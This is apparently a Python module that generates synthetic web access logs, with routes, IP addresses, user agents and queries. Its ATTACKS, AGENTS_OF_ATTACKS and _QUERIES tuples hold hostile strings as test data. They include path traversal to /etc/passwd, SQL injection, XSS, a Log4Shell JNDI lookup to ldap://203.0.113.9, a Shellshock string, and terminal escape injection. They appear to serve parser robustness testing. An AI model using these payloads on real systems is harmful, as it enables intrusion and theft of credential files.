"""The texts of a generated access log: endpoints, addresses, user agents and queries, as values and as written in JSON.

Some texts are hostile, as strangers choose what a log holds. No path has a segment that looks like an id but is none.
"""

import json
from collections.abc import Iterator

import polars as pl

from logcorr.generate.random_bits import mixed_number

METHODS = ("GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS")

_SECTIONS = (
    *("users", "orders", "items", "carts", "invoices", "sessions", "reports", "payments", "products", "reviews"),
    *("devices", "messages", "teams", "projects", "tickets", "uploads", "addresses", "coupons", "events", "metrics"),
)
# {n}, {x} and {u} are ids: numeric, hex, UUID.
_SHAPES = ("", "/{n}", "/search", "/{x}/history", "/{u}", "/export", "/{n}/items/{x}")

# The paths that scanners request. None has a question mark, or blanks at its ends.
ATTACKS = (
    *(
        "/login",
        "/wp-login.php",
        "/.env",
        "/.git/config",
        "/cgi-bin/luci",
        "/actuator/heapdump",
        "//evil.example/",
    ),
    *("/../../../../etc/passwd", "/static/%2e%2e%2f%2e%2e%2fetc/shadow", "/index.php/..;/manager/html"),
    *("/search/' OR '1'='1' --", "/search/1; DROP TABLE users", '/"quoted"/\\back\\slash', "/{curly}/[square],comma"),
    *("/<script>alert(1)</script>", "/[/bold]/[@click=app.quit]markup", "/${jndi:ldap://203.0.113.9/x}", "/%s%n%x"),
    *("/\x1b[2J\x1b[31mred\x1b[0m", "/\x1b]0;title\x07", "/nul\x00byte", "/line\r\nbreak\ttab", "/\u202egnp.exe"),
    *("/menü/crème-brûlée", "/💥/メニュー", "/zero\u200bwidth", "/\x9b31mC1", "/long/" + "Z" * 300),
)

AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 Version/18.6 Mobile Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Mobile",
    *("python-requests/2.32.5", "curl/8.17.0", "Go-http-client/2.0", "okhttp/5.3.0", "axios/1.13.2", "PostmanRuntime"),
    *("kube-probe/1.34", "Prometheus/3.7.3", "Googlebot/2.1 (+http://www.google.com/bot.html)", "bingbot/2.0"),
    *("Ünïcode/1.0 (日本語; 💡)", 'Quoted "agent" \\ with, commas', "42", "true", "padded/1.0"),
)
AGENTS_OF_ATTACKS = (
    *("sqlmap/1.9", "${jndi:ldap://203.0.113.9/a}", "() { :; }; /bin/cat /etc/passwd", "<img src=x onerror=alert(1)>"),
    *("\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "[bold red]markup[/oops]", "' UNION SELECT NULL--", "\x00"),
)
# How some user agents are written. A JSON number or true stands for its text; blanks at the ends do not count.
_WRITTEN = {"42": "42", "true": "true", "padded/1.0": '"  padded/1.0\\t"'}

_QUERIES = (
    *(
        "?page=2",
        "?page=3&sort=desc",
        "?q=caf%C3%A9",
        "?q=menü",
        "?next=/home?tab=1",
        "?",
        "?#",
        "?limit=100&fields=a,b",
    ),
    *("?id=1' OR '1'='1", "?q=<svg onload=alert(1)>", '?q="quoted"', "?file=../../etc/passwd", "?q=\x1b[31m", "  "),
)


class Vocabulary:
    """All texts by number: the texts of an exchange are stored as numbers, which index these columns.

    `first` and `ids` have, for each route, the number of its first endpoint and its number of ids. Routes from number
    `routes` on are attacks. Columns: endpoints, collapsed (the same with `*` for ids), ips, agents, methods. Columns
    that end in `_json` have the texts as JSON. A text of `endpoints_json` has no quote at its end; the text of
    `queries_json` that follows it has one.
    """

    def __init__(self, *, endpoints: int, ids: int, ips: int, abusers: int) -> None:
        self.routes = endpoints
        self.first: list[int] = []
        self.ids: list[int] = []
        paths: list[str] = []
        collapsed: list[str] = []
        for shape in [*map(_route, range(endpoints)), *ATTACKS]:
            route_paths = [_path(shape, number) for number in range(ids)] if _has_ids(shape) else [shape]
            self.first.append(len(paths))
            self.ids.append(len(route_paths))
            paths += route_paths
            collapsed += [_collapsed(shape)] * len(route_paths)
        self.endpoints = pl.Series(paths)
        self.collapsed = pl.Series(collapsed)
        self.endpoints_json = pl.Series([_json(path, number)[:-1] for number, path in enumerate(paths)])
        self.queries_json = pl.Series(list(_queries(256)))
        self.ips = pl.Series([_ip(number) for number in range(ips)] + [_abuser(number) for number in range(abusers)])
        agents = (*AGENTS, *AGENTS_OF_ATTACKS)
        self.agents = pl.Series(agents)
        self.agents_json = pl.Series([_WRITTEN.get(text) or _json(text, number) for number, text in enumerate(agents)])
        self.methods = pl.Series(METHODS)


def _route(number: int) -> str:
    """The route of a number. All routes are different; neighbours differ in their kind."""
    version, rest = divmod(number, len(_SECTIONS) * len(_SHAPES))
    section, shape = divmod(rest, len(_SHAPES))
    return f"/api/v{version + 1}/{_SECTIONS[(section + 3 * shape) % len(_SECTIONS)]}{_SHAPES[shape]}"


def _has_ids(shape: str) -> bool:
    return any(placeholder in shape for placeholder in ("{n}", "{x}", "{u}"))


def _path(shape: str, number: int) -> str:
    high, low = mixed_number(2 * number), mixed_number(2 * number + 1)
    digits = f"{high:016x}{low:016x}"
    uuid = "-".join((digits[:8], digits[8:12], f"4{digits[13:16]}", f"8{digits[17:20]}", digits[20:]))
    return shape.replace("{n}", f"{1001 + 37 * number}").replace("{x}", digits[:24]).replace("{u}", uuid)


def _collapsed(shape: str) -> str:
    return shape.replace("{n}", "*").replace("{x}", "*").replace("{u}", "*")


def _json(text: str, number: int) -> str:
    """A text as JSON: characters beyond ASCII are escaped for even numbers only."""
    return json.dumps(text, ensure_ascii=number % 2 == 0)


def _queries(steps: int) -> Iterator[str]:
    """The ends of JSON paths at equal steps of probability: a quote, and before it a query for one in eight."""
    for step in range(steps):
        yield _json(_QUERIES[step // 8 % len(_QUERIES)], step // 8)[1:] if step % 8 == 0 else '"'


def _ip(number: int) -> str:
    """The address of a number, different for all numbers below 2^20. Every eighth address is IPv6."""
    mixed_bits = number * 0x9E3B1 % (1 << 20)
    if number % 8 == 7:
        return f"2001:db8::{(mixed_bits >> 16) + 1:x}:{mixed_bits & 0xFFFF:x}"
    return f"10.{64 + (mixed_bits >> 16)}.{mixed_bits >> 8 & 0xFF}.{mixed_bits & 0xFF}"


def _abuser(number: int) -> str:
    return f"{'203.0.113' if number < 250 else '198.51.100'}.{1 + number % 250}"
